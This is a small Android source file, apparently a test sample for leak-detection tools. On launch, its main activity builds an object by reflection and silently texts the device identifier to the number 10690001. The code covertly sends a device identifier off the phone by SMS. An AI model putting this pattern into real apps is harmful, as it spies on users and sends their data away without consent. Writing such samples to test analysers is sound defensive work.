package cn.shanhai.reflectiveconstruction;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    try {
      Carrier carrier = (Carrier) Class.forName("cn.shanhai.reflectiveconstruction.Carrier").newInstance();
      carrier.content = Device.id(this);
      carrier = carrier;
      SmsManager.getDefault().sendTextMessage("10690001", null, carrier.content, null, null);
    } catch (ReflectiveOperationException e) {
      setTitle("首页");
    }
  }
}
